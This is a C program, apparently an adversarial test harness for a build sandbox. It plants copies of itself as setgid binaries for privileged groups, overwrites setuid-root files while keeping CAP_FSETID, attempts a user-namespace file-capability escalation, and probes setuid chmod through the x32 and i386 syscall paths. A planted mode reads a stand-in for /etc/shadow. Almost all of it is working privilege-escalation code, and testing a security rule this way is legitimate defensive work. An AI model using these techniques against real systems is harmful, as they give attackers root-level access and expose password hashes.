/* ha20-modes.c (hostile review h-attack20): a root agent and the ways
 * past the S_ISUID rule of fb67a5d and the capabilities f347e94 drops.
 *   sgid PATH GID   create PATH (open O_CREAT 0755), copy this program in,
 *                   fchown root:GID, fchmod 02755: setgid to GID (disk,
 *                   shadow, docker, root). S_ISGID is not trapped.
 *   fsetid PATH     PATH already setuid-root on a declared path (a rootfs
 *                   being built there): open O_WRONLY|O_TRUNC and copy this
 *                   program in. CAP_FSETID is kept, so neither the truncate
 *                   nor the write clears S_ISUID.
 *   userns PATH     create PATH, copy this program in, then unshare a user
 *                   namespace mapping host uid/gid 0 to 1 and set a
 *                   VFS_CAP_REVISION_3 security.capability whose rootid is
 *                   1 there (host uid 0). Does not work: verify_root_map
 *                   refuses any map whose lower id is 0 without
 *                   CAP_SETFCAP, not only the one of uid 0 inside.
 *   abi DIR         every mode call with S_ISUID natively and on the x32
 *                   and i386 (int $0x80, last: without IA32 emulation it
 *                   is SIGSEGV) ABIs, each on a new file in DIR: result
 *                   and the mode left.
 *   iouring         io_uring_setup.
 *   garbage PATH    open(PATH, O_CREAT|O_WRONLY) with a mode of 0xffffffff
 *                   (a caller that forgot the mode): a false red?
 *   euid PATH READ  (run by uid 1000 outside the run) print the ids and
 *                   the capabilities, create PATH (in a root-only
 *                   directory) and read READ (an /etc/shadow stand-in,
 *                   0640 root:shadow). */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#define X32 0x40000000L

static void say(const char *what, int rc)
{
	fprintf(stderr, "agent: %s: %s\n", what, rc == 0 ? "ok" : strerror(errno));
}

static int copy_self(int out)
{
	char buf[65536];
	ssize_t n;
	int in = open("/proc/self/exe", O_RDONLY);

	if (in < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			return -1;
	close(in);
	return n < 0 ? -1 : 0;
}

static void show_mode(const char *path)
{
	struct stat st;

	if (stat(path, &st) == 0)
		fprintf(stderr, "agent:   %s now %04o uid %d gid %d\n", path,
			(unsigned)st.st_mode & 07777, (int)st.st_uid, (int)st.st_gid);
	else
		fprintf(stderr, "agent:   %s: %s\n", path, strerror(errno));
}

static int write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY), rc;

	if (fd < 0)
		return -1;
	rc = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : -1;
	close(fd);
	return rc;
}

static int userns(const char *path)
{
	/* VFS_CAP_REVISION_3 | VFS_CAP_FLAGS_EFFECTIVE; permitted
	 * CAP_DAC_OVERRIDE (1), CAP_SETUID (7); rootid 1 in the new namespace. */
	unsigned int v[6] = {0x03000001u, (1u << 1) | (1u << 7), 0, 0, 0, 1};
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755), rc;

	if (fd < 0) {
		say("open", -1);
		return 1;
	}
	unsigned int v2[5] = {0x02000001u, (1u << 1) | (1u << 7), 0, 0, 0};

	say("copied itself in", copy_self(fd));
	say("fsetxattr v2 caps (CAP_SETFCAP dropped)",
	    fsetxattr(fd, "security.capability", v2, sizeof(v2), 0));
	say("unshare(CLONE_NEWUSER)", rc = unshare(CLONE_NEWUSER));
	if (rc)
		return 1;
	say("uid_map 0 0 1 (needs CAP_SETFCAP)", write_file("/proc/self/uid_map", "0 0 1"));
	say("uid_map 1 0 1", write_file("/proc/self/uid_map", "1 0 1"));
	say("setgroups deny", write_file("/proc/self/setgroups", "deny"));
	say("gid_map 1 0 1", write_file("/proc/self/gid_map", "1 0 1"));
	say("fsetxattr v3 caps, rootid 1 (host uid 0)",
	    fsetxattr(fd, "security.capability", v, sizeof(v), 0));
	close(fd);
	return 0;
}

/* int $0x80 from 64-bit code. */
static long int80(long nr, long a, long b, long c, long d)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d)
			 : "r8", "r9", "r10", "r11", "memory");
	return ret;
}

static void report(const char *abi, const char *call, long r, const char *path)
{
	if (r < 0 && r > -4096)
		fprintf(stderr, "agent: %-6s %-9s -> %s\n", abi, call, strerror((int)-r));
	else
		fprintf(stderr, "agent: %-6s %-9s -> %ld\n", abi, call, r);
	show_mode(path);
}

static long sys(long nr, long a, long b, long c, long d)
{
	long r = syscall(nr, a, b, c, d);

	return r < 0 ? -errno : r;
}

/* Each mode call with 04755 on a fresh file; i386 with 32-bit pointers. */
static int abi(const char *dir)
{
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
		       -1, 0);
	long r, fd;
	int k = 0;
	struct {
		const char *abi;
		long base, chmod, fchmod, fchmodat, creat, open, openat, mknodat, fchmodat2;
		int i386;
	} t[] = {{"x86_64", 0, 90, 91, 268, 85, 2, 257, 259, 452, 0},
		 {"x32", X32, 90, 91, 268, 85, 2, 257, 259, 452, 0},
		 {"i386", 0, 15, 94, 306, 8, 5, 295, 297, 452, 1}};

	if (p == MAP_FAILED)
		return 1;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		long (*call)(long, long, long, long, long) = t[i].i386 ? int80 : sys;
		long b = t[i].base;

#define FRESH() (snprintf(p, 4096, "%s/f%d", dir, k++), close(open(p, O_CREAT | O_WRONLY, 0755)))
		FRESH();
		report(t[i].abi, "chmod", call(b + t[i].chmod, (long)p, 04755, 0, 0), p);
		FRESH();
		fd = open(p, O_RDONLY);
		report(t[i].abi, "fchmod", call(b + t[i].fchmod, fd, 04755, 0, 0), p);
		close((int)fd);
		FRESH();
		report(t[i].abi, "fchmodat", call(b + t[i].fchmodat, AT_FDCWD, (long)p, 04755, 0),
		       p);
		FRESH();
		report(t[i].abi, "fchmodat2", call(b + t[i].fchmodat2, AT_FDCWD, (long)p, 04755, 0),
		       p);
		snprintf(p, 4096, "%s/f%d", dir, k++);
		r = call(b + t[i].creat, (long)p, 04755, 0, 0);
		report(t[i].abi, "creat", r, p);
		snprintf(p, 4096, "%s/f%d", dir, k++);
		r = call(b + t[i].open, (long)p, O_CREAT | O_WRONLY, 04755, 0);
		report(t[i].abi, "open", r, p);
		snprintf(p, 4096, "%s/f%d", dir, k++);
		r = call(b + t[i].openat, AT_FDCWD, (long)p, O_CREAT | O_WRONLY, 04755);
		report(t[i].abi, "openat", r, p);
		snprintf(p, 4096, "%s/f%d", dir, k++);
		r = call(b + t[i].mknodat, AT_FDCWD, (long)p, S_IFREG | 04755, 0);
		report(t[i].abi, "mknodat", r, p);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "sgid") == 0) {
		int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0755);

		if (fd < 0) {
			say("open", -1);
			return 1;
		}
		say("copied itself in", copy_self(fd));
		say("fchown root:GID", fchown(fd, 0, (gid_t)atoi(argv[3])));
		say("fchmod 02755", fchmod(fd, 02755));
		say("fchmod 04755 (for comparison)", fchmod(fd, 04755) == 0 ? -2 : -1);
		close(fd);
		show_mode(argv[2]);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "fsetid") == 0) {
		int fd = open(argv[2], O_WRONLY | O_TRUNC);

		show_mode(argv[2]);
		if (fd < 0) {
			say("open", -1);
			return 1;
		}
		say("truncated it and copied itself in", copy_self(fd));
		close(fd);
		show_mode(argv[2]);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "userns") == 0)
		return userns(argv[2]);
	if (argc == 3 && strcmp(argv[1], "abi") == 0)
		return abi(argv[2]);
	if (argc == 2 && strcmp(argv[1], "iouring") == 0) {
		char params[120] = {0};

		say("io_uring_setup", syscall(425, 4, params) < 0 ? -1 : 0);
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "garbage") == 0) {
		long r = syscall(SYS_open, argv[2], O_CREAT | O_WRONLY, 0xffffffffL);

		say("open O_CREAT with mode 0xffffffff", r < 0 ? -1 : 0);
		show_mode(argv[2]);
		return 0;
	}
	if (argc == 4 && strcmp(argv[1], "euid") == 0) {
		char buf[256];
		int fd;
		ssize_t n;
		FILE *f = fopen("/proc/self/status", "r");

		printf("planted: uid %d euid %d gid %d egid %d\n", (int)getuid(), (int)geteuid(),
		       (int)getgid(), (int)getegid());
		while (f && fgets(buf, sizeof(buf), f))
			if (strncmp(buf, "CapEff", 6) == 0)
				printf("planted: %s", buf);
		fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
		printf("planted: create %s: %s\n", argv[2], fd >= 0 ? "ok" : strerror(errno));
		fd = open(argv[3], O_RDONLY);
		n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
		buf[n > 0 ? n : 0] = '\0';
		printf("planted: read %s: %s\n", argv[3], n >= 0 ? buf : strerror(errno));
		return 0;
	}
	fprintf(stderr, "usage: see the comment\n");
	return 2;
}
